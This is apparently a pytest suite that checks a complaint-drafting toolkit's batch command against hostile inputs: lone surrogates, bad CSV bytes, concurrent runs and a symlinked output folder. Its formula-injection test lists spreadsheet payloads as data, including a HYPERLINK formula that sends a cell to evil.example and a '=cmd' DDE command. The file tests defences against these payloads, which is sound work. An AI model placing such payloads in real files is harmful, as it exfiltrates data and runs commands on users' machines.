"""`batch` under attack (issue 14): each test brings one hostile input and shows what holds.

The attacks: surrogate escapes and other rows that make reading or hashing raise, a bad byte in a
CSV, formula cells in the reports, two runs into one folder, and a case folder that is a symbolic
link to somewhere else. The PDF stage's are in test_hardening_pdf_stage.py.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from docx import Document

from complaint_kit.batch.jobs import join_surrogates, may_hold_surrogates
from complaint_kit.batch.lock import LOCK, out_lock
from complaint_kit.batch.reports import csv_cell
from tests.batchrun import batch, make_case, report, rows, run, write_jsonl


def docx_text(path: Path) -> str:
    document = Document(str(path))
    return "\n".join([p.text for p in document.paragraphs] + [
        c.text for t in document.tables for r in t.rows for c in r.cells])


# -- 2. surrogates, and any exception while reading or hashing one case


def test_surrogate_escapes_in_jsonl_stay_in_their_row(tmp_path):
    # Before: one lone surrogate aborted the whole batch in _input_hash, naming no row:
    # "error: 'utf-8' codec can't encode character '\ud800'...".
    emoji = make_case(1)
    emoji["incidents"][0]["content"] = "再不还钱明天上门！\U0001f52a"
    lone = make_case(2)
    lone["incidents"][0]["content"] = "明天上门\ud800"
    lone_id = make_case("x\udc80y")
    src = tmp_path / "cases.jsonl"
    # json.dumps escapes as Python writes JSON by default: \ud83d\udd2a for the emoji
    src.write_text("".join(json.dumps(c) + "\n" for c in
                           (emoji, lone, lone_id, make_case(3))), encoding="utf-8")
    assert "\\ud83d\\udd2a" in src.read_text(encoding="utf-8")
    out = tmp_path / "out"
    result = batch(src, "--out", out, "--doc", "notice", code=1)
    assert "codec" not in result.stderr
    statuses = {(r["row"], r["status"]) for r in rows(out / "report.csv")}
    assert statuses == {("1", "drafted"), ("2", "invalid"), ("3", "invalid"),
                        ("4", "drafted")}
    errors = rows(out / "errors.csv")
    assert [(e["source"], e["row"], e["column"]) for e in errors] == [
        ("cases.jsonl", "2", "incidents.0.content"), ("cases.jsonl", "3", "id"),
        ("cases.jsonl", "3", "complainant.name")]  # make_case puts the id in the name
    assert all("lone UTF-16 surrogate" in e["message"] for e in errors)
    notice = out / "case-001" / "case-001-notice-lender.docx"
    assert "明天上门！\U0001f52a" in docx_text(notice)  # the pair joined into its emoji


def test_a_lone_surrogate_in_a_folder_case_file_stays_in_its_row(tmp_path):
    folder = tmp_path / "cases"
    folder.mkdir()
    (folder / "f-1.json").write_text(json.dumps(make_case("f-1")), encoding="utf-8")
    case = make_case("f-2")
    case["incidents"][0]["content"] = "明天上门\udbff"
    (folder / "f-2.json").write_text(json.dumps(case), encoding="utf-8")  # "\\udbff"
    out = tmp_path / "out"
    batch(folder, "--out", out, "--doc", "notice", code=1)
    rep = report(out)
    assert rep["f-1"]["status"] == "drafted" and rep["f-2"]["status"] == "invalid"
    assert [e["source"] for e in rows(out / "errors.csv")] == ["cases/f-2.json"]


def test_surrogate_pairs_are_joined_and_lone_ones_located():
    """The rule the parent applies to every row, whatever reader left the surrogates."""
    data = {"id": "x\ud83d\udd2ay", "incidents": [{"content": "ok"}, {"content": "a\udc00"}],
            "k\ud800": 1}
    joined, bad = join_surrogates(data)
    assert joined["id"] == "x\U0001f52ay"
    assert bad == [("incidents", 1, "content"), ()]


@pytest.mark.parametrize(("data", "may"), [
    ({"id": "x", "incidents": [{"content": "再不还钱明天上门！", "n": 1.5}]}, False),
    ({"id": "x\ud83d\udd2ay"}, True), ({"incidents": [{"content": "a\udc00"}]}, True),
    ({"k\ud800": 1}, True), ({("a", "b"): 1}, True)])
def test_only_rows_that_may_hold_surrogates_are_walked(data, may):
    """The parent's quick look: a row whose text holds no surrogate skips the walk, and a row
    it cannot tell about (a key JSON cannot write) is walked."""
    assert may_hold_surrogates(data) is may


def test_a_row_nested_too_deeply_is_its_own_error(tmp_path):
    deep = '{"id": "deep", "x": ' + "[" * 100_000 + "]" * 100_000 + "}"
    src = write_jsonl(tmp_path / "cases.jsonl", [make_case(1), deep, make_case(2)])
    out = tmp_path / "out"
    batch(src, "--out", out, "--doc", "notice", code=1)
    assert [(r["row"], r["status"]) for r in rows(out / "report.csv")] == [
        ("1", "drafted"), ("2", "invalid"), ("3", "drafted")]
    (error,) = rows(out / "errors.csv")
    assert (error["source"], error["row"]) == ("cases.jsonl", "2")
    assert "nested too deeply" in error["message"]


def test_an_exception_while_drafting_one_case_stays_in_its_row(tmp_path, monkeypatch):
    """Hashing, validating, drafting: whatever a case raises is its row; the others go on."""
    from complaint_kit.batch import run as batch_module
    from complaint_kit.batch import worker as worker_module
    from complaint_kit.batch.inputs import open_input

    real = worker_module._input_hash

    def hash_or_fail(data, fingerprint):
        if data.get("id") == "case-002":
            raise MemoryError("boom")
        return real(data, fingerprint)

    monkeypatch.setattr(worker_module, "_input_hash", hash_or_fail)
    src = write_jsonl(tmp_path / "cases.jsonl", [make_case(n) for n in (1, 2, 3)])
    out = tmp_path / "out"
    summary = batch_module.run_batch(open_input(src), batch_module.Options(
        out=out, doc="notice", progress=False))
    assert (summary.drafted, summary.failed) == (2, 1)
    assert {k: r["status"] for k, r in report(out).items()} == {
        "case-001": "drafted", "case-002": "failed", "case-003": "drafted"}
    (error,) = rows(out / "errors.csv")
    assert (error["source"], error["row"], error["case"], error["message"]) == (
        "cases.jsonl", "2", "case-002", "MemoryError: boom")


# -- 3. a bad byte in a CSV


CASES_HEADER = "case_id,jurisdiction,complainant.name,respondents.0.id,respondents.0.name\n"


def _cases_csv(tmp_path: Path, body: bytes, encoding: str = "utf-8",
               content: str = "再不还钱明天上门！") -> Path:
    (tmp_path / "cases.csv").write_bytes(CASES_HEADER.encode(encoding) + body)
    incidents = ("case_id,time,channel,respondent,content\n"
                 f"u-1,2026-03-01 23:15,sms,lender,{content}\n"
                 f"u-2,2026-03-01 23:15,sms,lender,{content}\n")
    (tmp_path / "incidents.csv").write_bytes(incidents.encode(encoding))
    return tmp_path / "cases.csv"


def test_one_bad_byte_in_a_utf8_csv_is_named_never_replaced(tmp_path):
    # Before: the whole file was read as GB 18030 with errors="replace": every message
    # mojibake, findings lost (4 -> 2), exit code 0.
    good = "u-1,cn,王测试,lender,示例贷\n".encode()
    src = _cases_csv(tmp_path, good + b"u-2,cn,\xff\xe6\x9d\x8e,lender,x\n")
    out = tmp_path / "out"
    result = run("batch", src, "--out", out, "--doc", "notice", "--no-progress")
    assert result.returncode == 2, result.stderr
    offset = len(CASES_HEADER.encode()) + len(good) + len("u-2,cn,")
    assert result.stderr.strip() == (
        f"error: cases.csv: line 3 (byte offset {offset}): not valid UTF-8 text (invalid "
        "start byte: ff); correct that byte, or give the file's encoding with --encoding")
    assert not list(out.rglob("*.docx"))


def test_encoding_option_reads_a_csv_in_the_encoding_given(tmp_path):
    src = _cases_csv(tmp_path, "u-1,cn,王測試,lender,示例貸\nu-2,cn,李測試,lender,示例貸\n"
                     .encode("big5"), "big5", "再不還錢明天上門！")
    out = tmp_path / "out"
    batch(src, "--out", out, "--doc", "notice", "--encoding", "big5")
    rep = report(out)
    assert {k: r["status"] for k, r in rep.items()} == {"u-1": "drafted", "u-2": "drafted"}
    assert "本人王測試" in docx_text(out / "u-1" / "u-1-notice-lender.docx")
    # the same bytes in the wrong encoding: an error naming the byte, never mojibake
    result = run("batch", src, "--out", tmp_path / "o2", "--no-progress", "--encoding",
                 "utf-8")
    assert result.returncode == 2
    assert result.stderr.startswith("error: incidents.csv: line 2 (byte offset 72): not "
                                    "valid utf-8 text (invalid start byte: a6)")
    result = run("batch", src, "--out", tmp_path / "o3", "--encoding", "klingon")
    assert result.returncode == 2 and "no such encoding" in result.stderr
    write_jsonl(tmp_path / "c.jsonl", [make_case(1)])
    result = run("batch", tmp_path / "c.jsonl", "--out", tmp_path / "o4", "--encoding", "big5")
    assert result.returncode == 2 and "go with a cases .csv" in result.stderr


def test_a_bad_byte_in_a_gb18030_csv_is_named(tmp_path):
    src = _cases_csv(tmp_path, "u-1,cn,王测试,lender,示例贷\n".encode("gb18030") + b"u-2,cn,\x80x,"
                     b"lender,x\n", "gb18030")
    result = run("batch", src, "--out", tmp_path / "out", "--no-progress", "--encoding",
                 "gb18030")
    assert result.returncode == 2
    assert "line 3" in result.stderr and "not valid gb18030 text" in result.stderr


def test_a_csv_in_a_legacy_encoding_is_read_in_the_one_its_header_labels_read_in(tmp_path):
    # The places' cases are in the rows, unknown until the file is decoded: the header decides.
    (tmp_path / "cases.csv").write_bytes("案件編號,適用地區,投訴人姓名\ntw-1,tw,王測試\n"
                                         .encode("cp950"))
    result = run("batch", tmp_path / "cases.csv", "--out", tmp_path / "out", "--check",
                 "--no-progress")
    assert result.returncode == 0, result.stderr
    # A header of field paths reads alike in every encoding: the user is asked to name it,
    # rather than having the cells read in one place's encoding and garbled.
    src = _cases_csv(tmp_path, "u-1,cn,王测试,lender,示例贷\n".encode("gb18030"), "gb18030")
    result = run("batch", src, "--out", tmp_path / "out2", "--no-progress")
    assert result.returncode == 2
    assert "not valid UTF-8 text" in result.stderr and "--encoding" in result.stderr


# -- 5. formula injection in report.csv and errors.csv


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(1)",
            "\t=1", "\r=1"]


def test_report_and_error_cells_are_never_formulas(tmp_path):
    # Before: ids and values beginning = + - @ were written as they are.
    cases = [make_case(f) for f in FORMULAS]
    bad = make_case("=cmd|' /C calc'!A0")
    bad["incidents"][0]["channel"] = "=cmd|' /C calc'!A0"
    src = write_jsonl(tmp_path / "cases.jsonl", [*cases, bad])
    out = tmp_path / "out"
    batch(src, "--out", out, "--doc", "notice", code=1)
    for name in ("report.csv", "errors.csv"):
        table = rows(out / name)
        assert table
        for row in table:
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    cases_seen = {r["case"] for r in rows(out / "report.csv")}
    assert cases_seen == {"'" + f for f in [*FORMULAS, "=cmd|' /C calc'!A0"]}
    (error,) = rows(out / "errors.csv")
    assert error["case"] == "'=cmd|' /C calc'!A0" and error["column"] == "incidents.0.channel"
    assert csv_cell(3) == 3 and csv_cell("a=b") == "a=b" and csv_cell("-x") == "'-x"


# -- 7. two batches into one --out


def test_a_second_batch_into_the_same_folder_is_refused(tmp_path):
    # Before: both wrote .report.csv.part: one lost its report rows, the other errored out.
    src = write_jsonl(tmp_path / "cases.jsonl", [make_case(1)])
    out = tmp_path / "out"
    out.mkdir()
    with out_lock(out):  # a batch running into out
        result = run("batch", src, "--out", out, "--no-progress")
    assert result.returncode == 2
    assert result.stderr.strip() == (f"error: {out}: another batch is writing into this folder; "
                                     "wait until it ends, or give another --out")
    assert not (out / "report.csv").exists()
    batch(src, "--out", out, "--doc", "notice")  # once it has ended
    assert report(out)["case-001"]["status"] == "drafted"
    assert (out / LOCK).exists()


def test_two_batches_at_once_one_runs_one_is_refused(tmp_path):
    import subprocess
    import sys

    src = write_jsonl(tmp_path / "cases.jsonl", [make_case(n) for n in range(12)])
    out = tmp_path / "out"
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    env.pop("COMPLAINT_KIT_PLUGINS", None)
    command = [sys.executable, "-m", "complaint_kit", "batch", str(src), "--out", str(out),
               "--no-progress", "--doc", "notice"]
    procs = [subprocess.Popen(command, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True) for _ in range(2)]
    results = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
    for p in procs:
        p.stdout.close()
        p.stderr.close()
    codes = sorted(code for code, _ in results)
    if codes == [0, 0]:  # the first had ended before the second started: both drafted
        pytest.skip("the two runs did not overlap on this machine")
    assert codes == [0, 2], results
    assert any("another batch is writing into this folder" in err for _, err in results)
    rep = report(out)
    assert len(rep) == 12 and {r["status"] for r in rep.values()} == {"drafted"}


# -- 10. a case folder that is a symbolic link, with a planted manifest


@pytest.mark.skipif(os.name == "nt", reason="symbolic links need privileges on Windows")
def test_a_symlinked_case_folder_is_never_written_through(tmp_path):
    # Before: the batch wrote the documents through the link and deleted the files the
    # planted manifest listed.
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("keep me")
    (victim / ".complaint-kit.json").write_text(json.dumps({
        "input_sha256": "0" * 64, "files": ["precious.txt"], "sizes": {}}))
    out = tmp_path / "out"
    out.mkdir()
    (out / "case-001").symlink_to(victim, target_is_directory=True)
    before = sorted(p.name for p in victim.iterdir())
    src = write_jsonl(tmp_path / "cases.jsonl", [make_case(1), make_case(2)])
    batch(src, "--out", out, "--doc", "notice", code=1)
    assert sorted(p.name for p in victim.iterdir()) == before
    assert (victim / "precious.txt").read_text() == "keep me"
    rep = report(out)
    assert rep["case-001"]["status"] == "failed"
    assert "symbolic link" in rep["case-001"]["message"]
    assert rep["case-002"]["status"] == "drafted"
    (error,) = rows(out / "errors.csv")
    assert (error["source"], error["row"], error["case"]) == ("cases.jsonl", "1", "case-001")
    # --force changes nothing: the link is still not followed
    batch(src, "--out", out, "--doc", "notice", "--force", code=1)
    assert sorted(p.name for p in victim.iterdir()) == before


def test_a_date_in_the_future_is_said_in_the_report_row(tmp_path):
    """caseio's warnings (a possible but unlikely date) reach the batch report, as `check` prints
    them for one case; the case is still valid."""
    from datetime import date, timedelta

    later = (date.today() + timedelta(days=400)).isoformat()
    case = make_case(1)
    case["incidents"][0]["time"] = f"{later} 10:00"
    source = write_jsonl(tmp_path / "cases.jsonl", [case])
    batch(source, "-o", tmp_path / "out", "--check")
    row = report(tmp_path / "out")["case-001"]
    assert any(f"{later} is in the future" in value for value in row.values()), row
